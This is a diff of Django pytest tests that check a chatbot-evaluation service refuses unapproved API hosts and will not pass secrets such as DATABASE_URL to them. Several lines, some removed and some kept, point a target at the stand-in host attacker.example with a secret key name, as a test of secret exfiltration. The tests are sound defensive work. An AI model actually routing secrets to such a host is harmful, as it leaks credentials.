@@ -14,7 +14,6 @@ import pytest
 from django.core.management import CommandError, call_command
 from rest_framework.test import APIClient
 
-from core.models import AllowedApiHost
 from corpus.instruments.services import builtin_instruments_load
 from corpus.models import Target
 from corpus.personas.services import builtin_personas_load
@@ -58,6 +57,8 @@ def test_the_judge_api_refuses_a_host_off_the_list_for_a_researcher(researcher, 
     assert api(outsider).post("/api/v1/judges/", payload, format="json").status_code in (403, 404)
     # An administrator may name the host, which approves it (recorded, with who did it).
     assert api(admin_user).post("/api/v1/judges/", payload, format="json").status_code == 201
+    from core.models import AllowedApiHost
+
     approval = AllowedApiHost.objects.get(host="attacker.example")
     assert approval.added_by == admin_user
     payload["name"] = "j2"
@@ -126,7 +127,8 @@ def test_a_simulation_batch_cannot_hand_the_secret_key_to_its_user_agent(researc
 
 def test_a_chatbot_stored_before_the_rule_cannot_be_simulated(researcher, fake_llm):
     persona_set = builtin_personas_load()
-    target = Target.objects.create(code="T-OLD", kind="litellm", model="openai/bot", api_base="http://attacker.example/",
+    # An unlisted loopback address: were the rule broken, the call would stay on this machine.
+    target = Target.objects.create(code="T-OLD", kind="litellm", model="openai/bot", api_base="http://127.0.0.2:9/v1",
                                    api_key_env="DATABASE_URL", system_prompt="hi")
     response = api(researcher).post("/api/v1/simulation-batches/", {
         "protocol": "amhart", "persona_set": persona_set.pk, "targets": [target.code], "exchanges": 1,
@@ -134,7 +136,7 @@ def test_a_chatbot_stored_before_the_rule_cannot_be_simulated(researcher, fake_l
         "user_agent": {"model": "openai/u", "api_base": fake_llm.base_url, "api_key_env": "OPENAI_API_KEY"},
     }, format="json")
     body = json.dumps(response.json())
-    assert response.status_code == 400 and "DATABASE_URL" in body and "attacker.example" in body
+    assert response.status_code == 400 and "DATABASE_URL" in body and "127.0.0.2" in body
 
 
 @pytest.mark.parametrize("key_env", ["DJANGO_SECRET_KEY", "DATABASE_URL"])
@@ -148,8 +150,8 @@ def test_the_llm_client_refuses_at_call_time_and_sends_nothing(fake_llm, monkeyp
 
 def test_the_llm_client_refuses_a_host_nobody_approved(monkeypatch):
     monkeypatch.setenv("OPENAI_API_KEY", "sk-real")
-    with pytest.raises(LLMError, match="attacker.example"):
-        chat(ModelSpec(model="openai/x", api_base="http://attacker.example/v1"), [{"role": "user", "content": "hi"}], retry=NO_RETRY)
+    with pytest.raises(LLMError, match="127.0.0.2"):  # not on the list, and on this machine should the rule break
+        chat(ModelSpec(model="openai/x", api_base="http://127.0.0.2:9/v1"), [{"role": "user", "content": "hi"}], retry=NO_RETRY)
 
 
 def test_the_http_chatbot_client_refuses_app_secrets_in_headers(fake_llm, monkeypatch):
